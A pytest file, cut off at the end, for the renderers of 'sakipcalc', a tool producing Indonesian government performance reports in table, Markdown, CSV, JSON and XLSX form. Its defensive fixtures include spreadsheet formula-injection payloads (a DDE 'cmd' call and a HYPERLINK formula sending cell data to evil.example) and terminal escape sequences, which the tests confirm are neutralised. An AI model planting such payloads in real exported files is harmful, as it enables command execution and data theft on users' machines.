"""Renderers other than HTML: terminal table, Markdown, CSV, JSON and XLSX; the progress bar.

Text renderers are compared with golden files under ``tests/golden/render``,
for a small hand-written spec and for the Tanah Laut spec. To regenerate them
after an intended change: ``python -m pytest tests/test_render.py --update-goldens``,
then read the diff by eye (``cat -v`` shows the colour escapes) and rerun.

The XLSX workbook is reopened with openpyxl and compared value by value with
the report, and the exact digits stored in the file are read from its XML.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import re
import sys
import zipfile
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest
from conftest import ROOT, SPECS, Golden

import sakipcalc
from sakipcalc import EvaluationReport, TargetSpec
from sakipcalc._progress import progress
from sakipcalc.i18n import Locale, label, reason
from sakipcalc.render._csv import CSV_COLUMNS, csv_headings, render_csv
from sakipcalc.render._safety import printable, spreadsheet_text, xlsx_text
from sakipcalc.render._text import render_json, render_markdown, render_table
from sakipcalc.render._xlsx import render_xlsx
from sakipcalc.results import CategoryRef, Figure, Status

STANDARD = SPECS / "standard"
TANAH_LAUT = "specs/tanah-laut-dinsos-2022"  # relative to ROOT: warnings name files this way

WriteSpec = Callable[[dict[str, str]], Path]

# Every kind of row: a formula (with a pipe and a line break in its name), a
# decimal target, a negative target and realisation, a grade, a score graded,
# a range target, missing data and a missing target; every band colour of the
# Permendagri scale; two officials' agreements; a budget with efficiency, a
# name that is a formula, and amounts a binary float cannot hold exactly.
SMALL = """\
sakipcalc: 1
imports: [{standard}]
spec:
  id: uji_render
  name: "Laporan Uji | Render"
  agency: Dinas Uji
  plan: {{start: 2021, end: 2023, baseline: 2020}}
  rounding: {{places: 2, mode: half_up, achievement_from: rounded}}
  category_scale: permendagri_86_2017
  efficiency: {{rule: achievement_minus_absorption, scale: efficiency_bands}}
breakdowns:
  - id: kelompok
    categories: [anak, lansia]
variables:
  - {{id: populasi, breakdown: kelompok, domain: count}}
  - {{id: tertangani, breakdown: kelompok, domain: count}}
org_units:
  - {{id: kadis, name: Dinas Uji, level: II, official: Kepala Dinas}}
  - {{id: sekretaris, name: "Sekretariat | Umum", level: III, parent: kadis, official: Sekretaris}}
indicators:
  - id: persen_tertangani
    name: "Persentase warga | tertangani\\nbaris kedua"
    unit: "%"
    formula: sum(tertangani) / sum(populasi) * 100
    owner: kadis
    tags: [IKU]
    targets: {{2022: 80}}
  - id: persen_lansia
    name: Persentase lansia tertangani
    unit: "%"
    formula: sum(tertangani, lansia) / sum(populasi, lansia) * 100
    owner: kadis
    targets: {{2022: 40.5}}
  - id: angka_pertumbuhan
    name: Pertumbuhan (negatif)
    unit: poin
    polarity: lower_is_better
    owner: sekretaris
    targets: {{2022: -2}}
  - id: nilai_akip
    name: Nilai AKIP
    unit: predikat
    scale: akip
    owner: sekretaris
    targets: {{2022: BB}}
  - id: skor_akip
    name: Skor AKIP
    unit: nilai
    scale: akip
    owner: sekretaris
    targets: {{2022: 80}}
  - id: rentang
    name: Indikator dengan rentang
    unit: "%"
    targets: {{2022: {{min: 80, max: 90}}}}
  - id: tanpa_data
    name: Indikator tanpa data
    unit: dokumen
    targets: {{2022: 4}}
  - id: tanpa_target
    name: Indikator tanpa target
    unit: dokumen
goals:
  - {{id: tujuan_1, name: Tujuan satu, indicators: [persen_tertangani]}}
objectives:
  - id: sasaran_1
    goal: tujuan_1
    name: Sasaran satu
    indicators: [persen_tertangani, persen_lansia, tanpa_data]
agreements:
  - id: pk_kadis
    year: 2022
    org_unit: kadis
    items:
      - {{indicator: persen_tertangani, target: 80}}
      - {{indicator: persen_lansia, target: 15}}
  - id: pk_sekretaris
    year: 2022
    org_unit: sekretaris
    items:
      - {{indicator: nilai_akip, target: BB}}
      - {{indicator: angka_pertumbuhan, target: -2}}
      - {{indicator: tanpa_data, target: 4}}
budget:
  - year: 2022
    programs:
      - id: prog_a
        name: Program A
        children:
          - id: keg_a1
            name: Kegiatan A1
            ceiling: 1000000
            spent: 750000.50
            indicators: [persen_tertangani]
          - id: keg_a2
            name: "=Kegiatan A2"
            ceiling: 200000
            spent: 0
      - id: prog_b
        name: Program B (angka besar)
        ceiling: 98765432109876.55
        spent: 12345678901234.57
data:
  "2022":
    populasi: {{anak: 300, lansia: 200}}
    tertangani: {{anak: 250, lansia: 30}}
    angka_pertumbuhan: -1.5
    nilai_akip: BB
    skor_akip: 65
    rentang: 50
    tanpa_target: 3
"""

# Names that are formulas, or start like one; units and a category too.
HOSTILE = """\
sakipcalc: 1
imports: [{standard}]
spec:
  id: hostile
  name: "=cmd|' /C calc'!A0"
  plan: {{start: 2021, end: 2023}}
  rounding: {{places: 2, mode: half_up, achievement_from: rounded}}
  category_scale: permendagri_86_2017
variables:
  - {{id: x, domain: number}}
indicators:
  - id: link
    name: '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    unit: "=1+1"
    formula: x
    targets: {{2022: 10}}
  - id: plus
    name: "+SUM(1,2)"
    unit: "%"
    targets: {{2022: 10}}
  - id: minus
    name: "-2+3"
    unit: poin
    polarity: lower_is_better
    targets: {{2022: -2}}
  - id: at
    name: "@SUM(A1:A9)"
    unit: poin
    targets: {{2022: 4}}
data:
  "2022":
    x: -7.25
    plus: 12.5
    minus: -1.5
    at: 4
"""


def _write(write_spec: WriteSpec, tmp_path: Path, text: str) -> Path:
    standard = Path(os.path.relpath(STANDARD, tmp_path)).as_posix()
    return write_spec({"spec.yaml": text.format(standard=standard)})


@pytest.fixture
def small(write_spec: WriteSpec, tmp_path: Path) -> EvaluationReport:
    report = sakipcalc.evaluate(sakipcalc.load(_write(write_spec, tmp_path, SMALL)), period="2022")
    # The only warnings are the deliberate negative targets of angka_pertumbuhan. They
    # name files, and tmp_path differs on every run, so the golden files leave them out.
    assert {(w.code, w.path) for w in report.warnings} == {
        ("negative-target", "indicators[2].targets.2022"),
        ("negative-target", "agreements[1].items[1].target"),
    }
    return dataclasses.replace(report, warnings=())


@pytest.fixture
def hostile(write_spec: WriteSpec, tmp_path: Path) -> EvaluationReport:
    report = sakipcalc.evaluate(
        sakipcalc.load(_write(write_spec, tmp_path, HOSTILE)), period="2022"
    )
    # The loader refuses control characters in names, so a spec cannot carry these;
    # the renderers must neutralise them anyway (a report may be built by other code).
    template = report.indicator("at")
    smuggled = (
        dataclasses.replace(template, indicator="tab", name="\tTab first", unit="\rCR first"),
        dataclasses.replace(
            template,
            indicator="control",
            name="bell \a and escape \x1b[31m",
            unit="\x1b]0;owned\a",
        ),
    )
    return dataclasses.replace(report, indicators=(*report.indicators, *smuggled))


@pytest.fixture(scope="module")
def tanah_laut() -> EvaluationReport:
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(ROOT)
        return sakipcalc.evaluate(sakipcalc.load(TANAH_LAUT), period="2022")


# ------------------------------------------------------------------ golden files

RENDERERS: dict[str, tuple[str, Callable[[EvaluationReport], str]]] = {
    "table-en": ("txt", lambda r: render_table(r)),
    "table-id": ("txt", lambda r: render_table(r, locale="id")),
    "table-en-colour": ("txt", lambda r: render_table(r, colour=True)),
    "table-id-colour": ("txt", lambda r: render_table(r, locale="id", colour=True)),
    "markdown-en": ("md", lambda r: render_markdown(r)),
    "markdown-id": ("md", lambda r: render_markdown(r, locale="id")),
    "csv-en": ("csv", lambda r: render_csv(r)),
    "csv-id": ("csv", lambda r: render_csv(r, locale="id")),
    "json": ("json", render_json),
}


@pytest.mark.parametrize("renderer", RENDERERS)
def test_small_spec_matches_the_golden_file(
    small: EvaluationReport, renderer: str, golden: Golden
) -> None:
    extension, render = RENDERERS[renderer]
    golden.check(f"render/small-{renderer}.{extension}", render(small))


@pytest.mark.parametrize("renderer", RENDERERS)
def test_tanah_laut_matches_the_golden_file(
    tanah_laut: EvaluationReport, renderer: str, golden: Golden
) -> None:
    extension, render = RENDERERS[renderer]
    golden.check(f"render/tanah-laut-{renderer}.{extension}", render(tanah_laut))


# ------------------------------------------------------------------ terminal table


def test_plain_table_has_no_escape_sequences(small: EvaluationReport) -> None:
    assert "\x1b" not in render_table(small)
    assert "\x1b" not in render_table(small, locale="id")


def _line(text: str, needle: str) -> str:
    """The first table line holding ``needle`` (not the headline's list items)."""
    return next(line for line in text.splitlines() if needle in line and not line.startswith("- "))


def test_colour_follows_the_band_colours(small: EvaluationReport) -> None:
    text = render_table(small, colour=True)
    # 56 / 80 = 70.00 Sedang (yellow); 15 / 40.5 = 37.04 Sangat Rendah (red);
    # 81.25 Tinggi (lightgreen); 62.50 Rendah (orange). The mark after a figure
    # says sakipcalc computed it.
    assert "\x1b[33m70.00¹\x1b[0m" in _line(text, "Persentase warga")
    assert "\x1b[31m37.04¹\x1b[0m" in _line(text, "Persentase lansia")
    assert "\x1b[92m81.25¹\x1b[0m" in _line(text, "Skor AKIP")
    assert "\x1b[38;5;208m62.50¹\x1b[0m" in _line(text, "Indikator dengan rentang")
    # a negative target has no achievement under ratio rules: no figure, no colour
    assert "\x1b" not in _line(text, "Pertumbuhan (negatif)")
    assert "negative target -2" in text
    # no data: in the list at the end, no colour
    assert "\x1b" not in next(x for x in text.splitlines() if x.startswith("- Indikator tanpa"))
    # roll-ups too: sasaran_1 is 53.52 Rendah
    rollup = next(line for line in text.splitlines() if line.startswith("objective"))
    assert "\x1b[38;5;208m53.52³\x1b[0m" in rollup


def test_colour_does_not_change_the_layout(small: EvaluationReport) -> None:
    coloured = re.sub(r"\x1b\[[0-9;]*m", "", render_table(small, colour=True))
    assert coloured == render_table(small)


def test_indonesian_table_uses_decimal_commas_and_labels(small: EvaluationReport) -> None:
    text = render_table(small, locale="id")
    assert "Capaian (%)" in text and "Realisasi" in text and "Akuntabilitas Keuangan" in text
    cells = _line(text, "Persentase lansia tertangani").split()
    assert cells[cells.index("%") + 1 : cells.index("%") + 4] == ["40,5", "15,00", "37,04¹"]


def test_table_spells_out_terminal_escapes(hostile: EvaluationReport) -> None:
    text = render_table(hostile, colour=True)
    assert "\\x1b]0;owned\\x07" in text
    assert "\x07" not in text
    # The only escapes left are the colours sakipcalc adds.
    assert re.sub(r"\x1b\[[0-9;]*m", "", text).count("\x1b") == 0


# ------------------------------------------------------------------ Markdown


def test_markdown_escapes_pipes_and_line_breaks(small: EvaluationReport) -> None:
    text = render_markdown(small)
    row = next(x for x in text.splitlines() if x.startswith("| 1 | Sasaran satu | Persentase w"))
    assert "Persentase warga \\| tertangani<br>baris kedua" in row
    # Nine columns: ten pipes that are not escaped.
    assert len(re.findall(r"(?<!\\)\|", row)) == 10


def test_markdown_has_every_section(small: EvaluationReport) -> None:
    text = render_markdown(small)
    for heading in (
        "## IKU results",
        "## A. Performance measurement",
        "## B. Analysis of performance",
        "## C. Performance agreements",
        "## D. Financial accountability",
        "## Table H. Indicators without data for this period",
        "## Notes",
    ):
        assert heading in text, heading
    assert "**Table E.1. Performance agreement — Kepala Dinas**" in text
    assert "**Table E.2. Performance agreement — Sekretaris**" in text
    # only nilai_akip (BB against BB: 100) counts: angka_pertumbuhan's target is
    # negative and tanpa_data has no data, so both are left out
    assert "**Agreement achievement: 100.00³" in text
    assert "| 98765432109876.55 |" in text
    assert "| 98.765.432.109.876,55 |" in render_markdown(small, locale="id")


# ------------------------------------------------------------------ CSV


def read_csv(text: str, locale: Locale) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if locale == "id" else ","))
    assert tuple(rows[0]) == csv_headings(locale)
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    # Keyed by the column codes: the Indonesian header row is in the same order.
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def test_csv_headings_are_indonesian_in_id() -> None:
    assert csv_headings("en") == CSV_COLUMNS
    assert csv_headings("id")[:5] == ("Indikator", "Nama", "Satuan", "Periode", "Target")
    assert csv_headings("id")[10:] == ("Status", "Keterangan", "Kategori")


def as_decimal(text: str, locale: Locale) -> Decimal | None:
    if text == "":
        return None
    return Decimal(text.replace(",", ".") if locale == "id" else text)


@pytest.mark.parametrize("locale", ["en", "id"])
def test_csv_round_trips_the_exact_figures(small: EvaluationReport, locale: Locale) -> None:
    text = render_csv(small, locale=locale)
    assert text.endswith("\r\n")
    rows = read_csv(text, locale)
    assert [row["indicator"] for row in rows] == [r.indicator for r in small.indicators]
    for row, result in zip(rows, small.indicators, strict=True):
        assert row["name"] == result.name  # newline and pipe kept, quoted
        assert row["period"] == "2022"
        for column, figure in (
            ("realisation", result.realisation),
            ("achievement", result.achievement),
        ):
            raw, rounded = (figure.raw, figure.rounded) if figure.ok else (None, None)
            assert as_decimal(row[f"{column}_raw"], locale) == raw
            assert as_decimal(row[column], locale) == rounded
            if rounded is not None:  # the declared places are kept: 56.00, not 56
                assert row[column].replace(",", ".") == format(rounded, "f")
        assert row["realisation_grade"] == (result.realisation.grade or "")
        failed = next((f for f in (result.realisation, result.achievement) if not f.ok), None)
        assert row["status"] == status_code((failed or result.achievement).status, locale)
        assert row["reason"] == (reason(failed.reason or "", locale) if failed else "")
    lansia = rows[1]
    # 15 / 40.5 × 100: the raw figure keeps every digit the engine computed
    assert lansia["achievement_raw"].startswith(
        "37,037037037" if locale == "id" else "37.037037037"
    )
    assert lansia["target"] == ("40,5" if locale == "id" else "40.5")


def test_csv_keeps_negative_numbers_as_numbers(small: EvaluationReport) -> None:
    row = read_csv(render_csv(small), "en")[2]
    assert (row["indicator"], row["target"], row["realisation"]) == (
        "angka_pertumbuhan",
        "-2",
        "-1.50",
    )


@pytest.mark.parametrize("locale", ["en", "id"])
def test_csv_escapes_formulas(hostile: EvaluationReport, locale: Locale) -> None:
    rows = {row["indicator"]: row for row in read_csv(render_csv(hostile, locale=locale), locale)}
    assert rows["link"]["name"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    assert rows["link"]["unit"] == "'=1+1"
    assert rows["plus"]["name"] == "'+SUM(1,2)"
    assert rows["minus"]["name"] == "'-2+3"
    assert rows["at"]["name"] == "'@SUM(A1:A9)"
    assert rows["tab"]["name"] == "'\tTab first"
    assert rows["tab"]["unit"] == "'\rCR first"
    # numbers are untouched, negative ones included
    comma = "," if locale == "id" else "."
    assert rows["link"]["realisation"] == f"-7{comma}25"
    assert rows["minus"]["target"] == "-2"
    assert rows["minus"]["realisation"] == f"-1{comma}50"
    assert rows["plus"]["realisation"] == f"12{comma}50"
    # no text cell starts like a formula
    for row in rows.values():
        for column in ("name", "unit", "reason", "category", "status"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))


# ------------------------------------------------------------------ XLSX


def xlsx_of(report: EvaluationReport, locale: Locale = "en") -> bytes:
    buffer = io.BytesIO()
    render_xlsx(report, buffer, locale=locale)
    return buffer.getvalue()


_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def stored_numbers(data: bytes, sheet: int) -> dict[str, str]:
    """Cell reference → the number exactly as written in the sheet's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        root = ElementTree.fromstring(archive.read(f"xl/worksheets/sheet{sheet}.xml"))
    out = {}
    for cell in root.iter(f"{{{_NS['m']}}}c"):
        value = cell.find("m:v", _NS)
        if cell.get("t", "n") == "n" and value is not None and value.text is not None:
            out[cell.get("r", "")] = value.text
    return out


def places_format(value: Decimal, grouping: bool = False) -> str:
    places = max(0, -int(value.as_tuple().exponent))
    return ("#,##0" if grouping else "0") + ("." + "0" * places if places else "")


class Num:
    """An expected number cell: the exact value and, for rounded figures, the shown places."""

    def __init__(self, value: Decimal, number_format: str = "General") -> None:
        self.value = value
        self.format = number_format

    def __repr__(self) -> str:
        return f"Num({self.value}, {self.format!r})"


def rounded(figure: Figure | None) -> Num | None:
    if figure is None or not figure.ok or figure.rounded is None:
        return None
    return Num(figure.rounded, places_format(figure.rounded))


def raw(figure: Figure | None) -> Num | None:
    if figure is None or not figure.ok or figure.raw is None:
        return None
    return Num(figure.raw)


def target(declared: TargetSpec | None, locale: Locale) -> Num | str | None:
    if declared is None:
        return None
    text = declared.describe()
    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text):
        return Num(Decimal(text), places_format(Decimal(text)))
    return re.sub(r"(?<=[0-9])\.(?=[0-9])", ",", text) if locale == "id" else text


def status(figures: tuple[Figure | None, ...], locale: Locale) -> str:
    failed = next((f for f in figures if f is not None and not f.ok), None)
    if failed is None:
        return "ok" if locale == "en" else "dapat dihitung"
    return {
        (Status.MISSING_DATA, "en"): "missing data",
        (Status.MISSING_DATA, "id"): "data belum tersedia",
        (Status.NOT_COMPUTABLE, "en"): "not computable",
        (Status.NOT_COMPUTABLE, "id"): "tidak dapat dihitung",
    }[failed.status, locale]


def status_code(code: Status, locale: Locale) -> str:
    """The CSV status column: the code in en, the agency's words in id."""
    if locale == "en":
        return code.value
    return {
        Status.OK: "dapat dihitung",
        Status.MISSING_DATA: "data belum tersedia",
        Status.NOT_COMPUTABLE: "tidak dapat dihitung",
    }[code]


# Kinds, rules and levels: codes in en, the agency's terms in id (written out by hand).
_ID_TERMS = {
    "objective": "Sasaran",
    "goal": "Tujuan",
    "org_unit": "Unit kerja",
    "agency": "Organisasi",
    "mean": "rata-rata",
    "weighted_mean": "rata-rata tertimbang",
    "min": "terendah",
    "ratio_of_sums": "rasio jumlah",
    "program": "Program",
    "kegiatan": "Kegiatan",
    "sub_kegiatan": "Sub kegiatan",
}


def term(code: str, locale: Locale) -> str:
    return str(code) if locale == "en" else _ID_TERMS.get(code, str(code))


def note(figures: tuple[Figure | None, ...], locale: Locale) -> str | None:
    failed = next((f for f in figures if f is not None and not f.ok), None)
    return None if failed is None or failed.reason is None else reason(failed.reason, locale)


def category(ref: CategoryRef | None) -> str | None:
    return None if ref is None else ref.name or ref.label


def expected_sheets(report: EvaluationReport, locale: Locale) -> dict[str, list[dict[str, Any]]]:
    """What each sheet must hold, worked out from the report independently of the renderer."""
    L = lambda key: label(key, locale)  # noqa: E731
    indicators = [
        {
            L("indicator"): r.indicator,
            L("name"): spreadsheet_text(r.name),
            L("unit"): spreadsheet_text(r.unit),
            L("period"): int(r.period),  # a year is a number cell
            L("target"): target(r.target, locale),
            L("realisation_raw"): raw(r.realisation),
            L("realisation"): rounded(r.realisation),
            L("grade"): r.realisation.grade,
            L("achievement_raw"): raw(r.achievement),
            L("achievement"): rounded(r.achievement),
            L("status"): status((r.realisation, r.achievement), locale),
            L("category"): category(r.category),
            L("note"): note((r.realisation, r.achievement), locale),
        }
        for r in report.indicators
    ]
    agreements = [
        {
            L("agreement"): a.id,
            L("year"): a.year,
            L("official"): a.official,
            L("org_unit"): spreadsheet_text(a.org_unit_name),
            L("level"): term(a.level, locale),
            L("indicator"): item.indicator,
            L("name"): spreadsheet_text(item.name),
            L("unit"): spreadsheet_text(item.unit),
            L("target"): target(item.target, locale),
            L("realisation_raw"): raw(item.realisation),
            L("realisation"): rounded(item.realisation),
            L("grade"): item.realisation.grade,
            L("achievement_raw"): raw(item.achievement),
            L("achievement"): rounded(item.achievement),
            L("status"): status((item.realisation, item.achievement), locale),
            L("category"): category(item.category),
            L("note"): note((item.realisation, item.achievement), locale),
            L("agreement_rollup_raw"): raw(a.rollup),
            L("agreement_rollup"): rounded(a.rollup),
        }
        for a in report.agreements
        for item in a.items
    ]
    budget: list[dict[str, Any]] = []

    def walk(lines: Any, parent: str | None) -> None:
        for b in lines:
            budget.append(
                {
                    L("budget_line"): b.id,
                    L("name"): spreadsheet_text(b.name),
                    L("level"): term(b.level, locale),
                    L("parent"): parent,
                    L("year"): b.year,
                    L("ceiling"): Num(b.ceiling, places_format(b.ceiling, grouping=True)),
                    L("spent"): Num(b.spent, places_format(b.spent, grouping=True)),
                    L("absorption_raw"): raw(b.absorption),
                    L("absorption"): rounded(b.absorption),
                    L("efficiency_raw"): raw(b.efficiency),
                    L("efficiency"): rounded(b.efficiency),
                    L("efficiency_category"): category(b.efficiency_category),
                    L("indicator"): ", ".join(b.indicators) or None,
                    L("note"): note((b.absorption, b.efficiency), locale),
                }
            )
            walk(b.children, b.id)

    walk(report.budget, None)
    rollups = [
        {
            L("kind"): term(r.kind, locale),
            L("id"): r.id,
            L("name"): spreadsheet_text(r.name),
            L("rule"): term(r.rule, locale),
            L("achievement_raw"): raw(r.achievement),
            L("achievement"): rounded(r.achievement),
            L("status"): status((r.achievement,), locale),
            L("category"): category(r.category),
            L("members"): ", ".join(r.members) or None,
            L("excluded"): ", ".join(r.excluded) or None,
            L("note"): note((r.achievement,), locale),
        }
        for r in report.rollups
    ]
    return {
        L("indicators"): indicators,
        L("agreements"): agreements,
        L("budget"): budget,
        L("rollups"): rollups,
    }


def compare_workbook(report: EvaluationReport, locale: Locale) -> int:
    """Every cell against the report; returns how many number cells were checked."""
    data = xlsx_of(report, locale)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    expected = expected_sheets(report, locale)
    # The data sheets, then chapter III as text (test_render_chapter checks it).
    assert workbook.sheetnames == [*expected, label("chapter_iii", locale)[:31]]
    numbers = 0
    for index, (title, rows) in enumerate(expected.items(), start=1):
        sheet = workbook[title]
        exact = stored_numbers(data, index)
        assert sheet.freeze_panes == "A2"
        assert sheet.max_row == len(rows) + 1
        headings = [cell.value for cell in sheet[1]]
        if rows:
            assert headings == list(rows[0])
        assert all(cell.font.bold for cell in sheet[1])
        for row_number, row in enumerate(rows, start=2):
            for column, (heading, want) in enumerate(row.items(), start=1):
                cell = sheet.cell(row=row_number, column=column)
                where = f"{title}!{cell.coordinate} ({heading})"
                if isinstance(want, Num):
                    numbers += 1
                    # a number cell, equal to the Decimal as a spreadsheet reads it …
                    assert cell.data_type == "n", where
                    assert isinstance(cell.value, (int, float)), where
                    assert not isinstance(cell.value, bool), where
                    assert cell.value == float(want.value), where
                    assert cell.number_format == want.format, where
                    # … and stored with the Decimal's exact digits
                    assert exact[cell.coordinate] == format(want.value, "f"), where
                else:
                    assert cell.value == want, where
                    if want is not None and not isinstance(want, int):
                        assert cell.data_type == "s", where
    # no cell anywhere is a formula
    for sheet in workbook:
        for line in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in line)
    return numbers


@pytest.mark.parametrize("locale", ["en", "id"])
def test_xlsx_small_value_by_value(small: EvaluationReport, locale: Locale) -> None:
    assert compare_workbook(small, locale) > 50


@pytest.mark.parametrize("locale", ["en", "id"])
def test_xlsx_tanah_laut_value_by_value(tanah_laut: EvaluationReport, locale: Locale) -> None:
    assert compare_workbook(tanah_laut, locale) > 200


def test_xlsx_sheet_names_follow_the_locale(small: EvaluationReport) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of(small, "id")))
    assert workbook.sheetnames == [
        "Indikator",
        "Perjanjian Kinerja",
        "Anggaran",
        "Capaian agregat",
        "Bab III Akuntabilitas Kinerja",
    ]
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of(small, "en")))
    assert workbook.sheetnames[:4] == ["Indicators", "Performance agreements", "Budget", "Roll-ups"]


def test_xlsx_keeps_digits_a_float_would_lose(small: EvaluationReport) -> None:
    data = xlsx_of(small)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["Budget"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "prog_b")
    # 98765432109876.55 needs 16 significant digits; a double cannot hold it
    # (openpyxl's own Decimal path writes "%.16g" of the float).
    assert float(Decimal("98765432109876.55")) != Decimal("98765432109876.55")
    assert stored_numbers(data, 3)[row[5].coordinate] == "98765432109876.55"
    assert row[5].number_format == "#,##0.00"
    # and a raw figure keeps all of its digits
    indicators = stored_numbers(data, 1)
    lansia = next(
        r for r in workbook["Indicators"].iter_rows(min_row=2) if r[0].value == "persen_lansia"
    )
    assert indicators[lansia[8].coordinate] == format(
        small.indicator("persen_lansia").achievement.raw, "f"
    )
    assert len(indicators[lansia[8].coordinate]) > 40


def test_xlsx_escapes_formulas(hostile: EvaluationReport) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_of(hostile)))
    sheet = workbook["Indicators"]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    assert rows["link"][1].value == '\'=HYPERLINK("http://evil.example/?d="&A1,"klik")'
    assert rows["link"][2].value == "'=1+1"
    assert rows["plus"][1].value == "'+SUM(1,2)"
    assert rows["minus"][1].value == "'-2+3"
    assert rows["at"][1].value == "'@SUM(A1:A9)"
    assert rows["tab"][1].value == "'\tTab first"
    # XML reads a carriage return back as a line feed; the workbook stores that already
    assert rows["tab"][2].value == "'\nCR first"
    # characters XLSX cannot store are spelled out, not dropped or fatal
    assert rows["control"][1].value == "bell \\x07 and escape \\x1b[31m"
    # numbers stay numbers, negative ones included
    assert rows["link"][6].value == -7.25 and rows["link"][6].data_type == "n"
    assert rows["minus"][4].value == -2 and rows["minus"][4].data_type == "n"
    assert rows["minus"][6].value == -1.5 and rows["minus"][6].data_type == "n"
    # tables without rows still have their sheet and headings
    assert workbook["Budget"].max_row == 1
    assert workbook["Budget"]["A1"].value == "Program / activity"
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f"
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_writes_to_a_path(small: EvaluationReport, tmp_path: Path) -> None:
    render_xlsx(small, tmp_path / "report.xlsx")
    render_xlsx(small, str(tmp_path / "report2.xlsx"), locale="id")
    assert openpyxl.load_workbook(tmp_path / "report.xlsx").sheetnames[0] == "Indicators"
    assert openpyxl.load_workbook(tmp_path / "report2.xlsx").sheetnames[0] == "Indikator"


def test_xlsx_without_openpyxl_says_how_to_install_it(
    small: EvaluationReport, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [m for m in sys.modules if m == "openpyxl" or m.startswith("openpyxl.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(ImportError, match=re.escape('pip install "sakipcalc[xlsx]"')):
        render_xlsx(small, io.BytesIO())


# ------------------------------------------------------------------ safety helpers


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Persentase", "Persentase"),
        ("a=b", "a=b"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_spreadsheet_text(text: str, escaped: str) -> None:
    assert spreadsheet_text(text) == escaped


def test_xlsx_text_and_printable() -> None:
    assert xlsx_text("=a\x07b\x00") == "'=a\\x07b\\x00"
    assert xlsx_text("line\nbreak\ttab") == "line\nbreak\ttab"
    assert xlsx_text("\rx\r\ny") == "'\nx\ny"
    assert printable("a\x1b[2Jb\nc\u202ed") == "a\\x1b[2Jb\\nc\\u202ed"
    assert printable("Rp 1.000 — Sangat Tinggi") == "Rp 1.000 — Sangat Tinggi"


# ------------------------------------------------------------------ progress


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True


class ClosedStream(io.StringIO):
    def isatty(self) -> bool:
        raise ValueError("I/O operation on closed file")


def test_progress_is_silent_when_piped() -> None:
    stream = io.StringIO()
    assert list(progress(range(5), total=5, label="Memuat", stream=stream)) == [0, 1, 2, 3, 4]
    assert list(progress(iter("abc"), total=None, label="Memuat", stream=stream)) == ["a", "b", "c"]
    assert stream.getvalue() == ""


def test_progress_is_silent_on_a_broken_stream() -> None:
    stream = ClosedStream()
    assert list(progress([1, 2], total=2, label="x", stream=stream)) == [1, 2]
    assert stream.getvalue() == ""


def draws(text: str) -> list[str]:
    return [part for part in text.split("\r") if part.strip()]


def test_progress_draws_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakipcalc._progress._INTERVAL", 0.0)
    stream = FakeTerminal()
    seen = []
    for item in progress(range(4), total=4, label="Evaluasi", stream=stream):
        seen.append(item)
        assert "\n" not in stream.getvalue()  # one line, redrawn in place
    assert seen == [0, 1, 2, 3]
    text = stream.getvalue()
    assert [d.rstrip() for d in draws(text)] == [
        "Evaluasi [------------------------] 0/4",
        "Evaluasi [######------------------] 1/4",
        "Evaluasi [############------------] 2/4",
        "Evaluasi [##################------] 3/4",
        "Evaluasi [########################] 4/4",
    ]
    # and erased at the end: the bar is not part of the output
    assert text.endswith("\r" + " " * len("Evaluasi [########################] 4/4") + "\r")


def test_progress_without_a_total_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sakipcalc._progress._INTERVAL", 0.0)
    stream = FakeTerminal()
    assert list(progress(iter([10, 20]), total=None, label="Memuat berkas", stream=stream)) == [
        10,
        20,
    ]
    assert [d.rstrip() for d in draws(stream.getvalue())] == [
        "Memuat berkas 0",
        "Memuat berkas 1",
        "Memuat berkas 2",
    ]


def test_progress_redraws_at_most_ten_times_a_second() -> None:
    stream = FakeTerminal()
    for _ in progress(range(10_000), total=10_000, label="x", stream=stream):
        pass
    # the first and the last state, and a few in between if the machine is slow
    found = draws(stream.getvalue())
    assert found[0].rstrip().endswith(" 0/10000") and found[-1].rstrip().endswith("10000/10000")
    assert len(found) < 100


def test_progress_erases_the_bar_when_the_loop_is_left_early() -> None:
    stream = FakeTerminal()
    for item in progress(range(10), total=10, label="x", stream=stream):
        if item == 2:
            break
    text = stream.getvalue()
    assert text.endswith("\r" + " " * len("x [------------------------]  0/10") + "\r")


def test_progress_shortens_long_labels() -> None:
    stream = FakeTerminal()
    list(progress([1], total=1, label="x" * 100, stream=stream))
    assert "x" * 31 + "…" in stream.getvalue()
    assert "x" * 33 not in stream.getvalue()


def test_importing_the_package_loads_no_renderer_nor_optional_library() -> None:
    # `import sakipcalc` (and so `sakipcalc --help`) stays quick: renderers,
